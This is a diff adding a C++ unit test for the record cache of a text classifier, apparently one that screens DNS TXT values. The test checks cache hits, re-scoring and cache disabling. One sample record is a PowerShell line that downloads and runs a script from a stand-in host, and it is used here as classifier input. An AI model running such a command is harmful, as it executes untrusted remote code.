@@ -1,0 +1,95 @@
+// A record that comes again gets the same answer, without being computed or judged.
+#include <gtest/gtest.h>
+
+#include <future>
+#include <string>
+#include <utility>
+
+#include "core/pipeline/classifier.h"
+#include "tests/core/pipeline/same_answer.h"
+#include "tests/support/random_model.h"
+
+namespace txtsentry::pipeline {
+namespace {
+
+class ClassifierMemoTest : public ::testing::Test {
+ protected:
+  ClassifierMemoTest() : memo_(RecordCache::Create(1 << 20, {1, 2}).value()) {
+    options_.engine.engine = "reference";
+    options_.memo = memo_.get();
+    Make();
+  }
+
+  void Make() { classifier_ = Classifier::Create(test::RandomModel(4), clock_, options_).value(); }
+
+  std::vector<Result> Ask(std::vector<Record> records) {
+    std::promise<std::vector<Result>> promise;
+    const auto call = classifier_->Classify(
+        std::move(records), {},
+        [&promise](std::vector<Result> results) { promise.set_value(std::move(results)); });
+    EXPECT_TRUE(call.ok()) << call.status();
+    return promise.get_future().get();
+  }
+
+  const base::SteadyClock clock_{};
+  const std::unique_ptr<RecordCache> memo_;
+  ClassifierOptions options_;
+  std::unique_ptr<Classifier> classifier_;
+};
+
+TEST_F(ClassifierMemoTest, ARecordThatComesAgainHasTheSameAnswer) {
+  const std::vector<Record> records = {
+      {"v=spf1 include:_spf.example.com ~all", ""},
+      {"token", "_acme-challenge.example.org"},
+      {"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", ""},
+      {"q83vASNFZ4mrze8BI0VniavN7wEjRWeJq83vASNFZ4mrze8BI0VniQ==", ""},
+      {"\xff\xfe not text", ""}};
+  const auto first = Ask(records);
+  const Recalled recalled = classifier_->Recall(records);
+  EXPECT_EQ(recalled.unknown, 0);
+  const auto again = Ask(records);
+  for (size_t i = 0; i < records.size(); ++i) {
+    EXPECT_FALSE(first[i].cached) << i;
+    EXPECT_TRUE(again[i].cached) << i;
+    ExpectSameAnswer(again[i], first[i]);
+    ExpectSameAnswer(recalled.results[i], first[i]);
+  }
+  EXPECT_EQ(classifier_->stats().rows_scored, static_cast<int64_t>(records.size()));
+}
+
+TEST_F(ClassifierMemoTest, OnlyWhatIsNewIsComputed) {
+  Ask({{"old", ""}});
+  const auto results = Ask({{"new", ""}, {"old", ""}, {"", ""}, {std::string(70'000, 'x'), ""}});
+  EXPECT_FALSE(results[0].cached);
+  EXPECT_TRUE(results[1].cached);
+  EXPECT_FALSE(results[2].cached);
+  EXPECT_EQ(results[3].status.code(), absl::StatusCode::kInvalidArgument);
+  EXPECT_EQ(classifier_->stats().rows_scored, 2);
+  // What is empty or refused is not kept.
+  EXPECT_EQ(memo_->stats().entries, 2);
+}
+
+TEST_F(ClassifierMemoTest, AnotherOwnerIsAnotherRecord) {
+  Ask({{"text", ""}});
+  EXPECT_EQ(classifier_->Recall({{"text", "a.example"}}).unknown, 1);
+}
+
+TEST_F(ClassifierMemoTest, AnotherClassifierHasAnswersOfItsOwn) {
+  Ask({{"text", ""}});
+  options_.judge.policy = rules::Policy::kTriage;
+  Make();
+  EXPECT_EQ(classifier_->Recall({{"text", ""}}).unknown, 1);
+}
+
+TEST_F(ClassifierMemoTest, NothingIsKeptOrRecalledWhileItIsOff) {
+  classifier_->set_cache_on(false);
+  Ask({{"text", ""}});
+  EXPECT_EQ(memo_->stats().entries, 0);
+  classifier_->set_cache_on(true);
+  Ask({{"text", ""}});
+  classifier_->set_cache_on(false);
+  EXPECT_EQ(classifier_->Recall({{"text", ""}}).unknown, 1);
+}
+
+}  // namespace
+}  // namespace txtsentry::pipeline
